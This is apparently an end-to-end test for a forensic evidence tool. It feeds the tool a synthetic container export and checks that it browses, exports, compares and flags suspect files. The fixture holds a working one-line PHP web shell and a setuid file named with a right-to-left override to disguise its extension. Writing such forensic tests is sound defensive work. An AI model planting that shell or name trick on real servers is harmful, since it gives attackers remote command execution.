import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { expect, test } from '@playwright/test';
import { tarOf } from '../unit/analyze/formats/tar-kit';
import { type Served, serve } from './serve';

const LADING = resolve(import.meta.dirname, '../../bin/lading.mjs');
const SHELL = '<?php @system($_GET["c"]); ?>\n';

/** A container's export, as `docker export` writes it, with a web shell and a hostile name in it. */
const before = [
  { name: '.dockerenv', body: '' },
  { name: 'etc/', type: '5' },
  { name: 'etc/passwd', body: 'root:x:0:0:root:/root:/bin/sh\n' },
  { name: 'etc/hostname', body: 'web\n' },
  { name: 'bin/', type: '5' },
  { name: 'bin/sh', body: 'a shell', mode: 0o755 },
  { name: 'usr/', type: '5' },
  { name: 'proc/', type: '5' },
  { name: 'dev/', type: '5' },
  { name: 'sys/', type: '5' },
  { name: 'var/www/html/', type: '5' },
];
const after = [
  ...before.filter(({ name }) => name !== 'etc/hostname'),
  { name: 'var/www/html/up.php', body: SHELL, mode: 0o644 },
  { name: 'var/www/html/\u202egnp.exe', body: 'x', mode: 0o4755 },
];

let served: Served;
let folder: string;
let env: NodeJS.ProcessEnv;

const lading = (...args: string[]) => execFileSync(process.execPath, [LADING, ...args], { env, encoding: 'utf8' });

test.beforeAll(async () => {
  served = await serve();
  const dir = mkdtempSync(join(tmpdir(), 'lading-files-'));
  env = { ...process.env, LADING_CONFIG: join(dir, 'config'), LADING_KEYCHAIN: 'off' };
  folder = join(dir, 'case');
  lading('new', folder, '--number', 'F-1', '--title', 'Files', '--examiner', 'A. Examiner');
  for (const [name, members] of Object.entries({ 'before.tar': before, 'web-after.tar': after })) {
    writeFileSync(join(dir, name), tarOf(members));
    lading('import', folder, join(dir, name));
  }
});

test.afterAll(() => served?.stop());

test('a file system is browsed, read, compared and a file exported, without extracting it', async ({ page }) => {
  await page.goto(served.url);
  await page.getByRole('radiogroup').getByText('Open a case').click();
  await page.getByLabel('Case folder').fill(folder);
  await page.getByRole('button', { name: 'Open the case' }).click();
  await page.getByRole('navigation').getByRole('link', { name: 'Files' }).click();
  await page.getByRole('combobox', { name: 'File system' }).click();
  await page.getByRole('option', { name: /E0002/ }).click();
  await page.getByRole('tree', { name: 'Folders' }).getByText('var', { exact: true }).dblclick();
  await page.getByRole('textbox', { name: 'Find by path' }).fill('html/');
  await expect(page.getByRole('row', { name: /up\.php/ })).toBeVisible();
  // the name that would run backwards is shown as it is
  await expect(page.getByRole('row', { name: /<U\+202E>gnp\.exe/ })).toContainText('rwsr-xr-x');
  await page.getByRole('row', { name: /up\.php/ }).click();
  const pane = page.getByRole('region', { name: 'File', exact: true });
  await expect(pane).toContainText(createHash('sha256').update(SHELL).digest('hex'));
  await pane.getByRole('tab', { name: 'Content' }).click();
  await expect(pane).toContainText('system($_GET["c"])');
  await page.screenshot({ path: 'test-results/files.png' });

  const to = join(folder, '..', 'shell.evidence');
  await pane.getByRole('button', { name: 'Export' }).click();
  await page.getByRole('textbox', { name: 'Save as' }).fill(to);
  await page.getByRole('textbox', { name: 'Why the copy is made' }).fill('for the lab');
  await page.getByRole('dialog').getByRole('button', { name: 'Export' }).click();
  await expect(page.getByText('File exported')).toBeVisible();
  expect(readFileSync(to, 'utf8')).toBe(SHELL);
  const entry = readFileSync(join(folder, 'ledger.jsonl'), 'utf8')
    .split('\n')
    .find((line) => line.includes('"file.exported"'));
  expect(entry).toContain(createHash('sha256').update(SHELL).digest('hex'));

  await page.getByRole('combobox', { name: 'Compare with' }).click();
  await page.getByRole('option', { name: /E0001/ }).click();
  await expect(page.getByRole('row', { name: /only in the first.*up\.php/ })).toBeVisible();
  await expect(page.getByRole('row', { name: /only in the second.*hostname/ })).toBeVisible();
  await page.screenshot({ path: 'test-results/files-compare.png' });

  await page.getByRole('navigation').getByRole('link', { name: 'Findings' }).click();
  await page.getByRole('button', { name: 'Run analysis' }).click();
  await expect(page.getByRole('row', { name: /runs what a request brings/ })).toBeVisible();
});
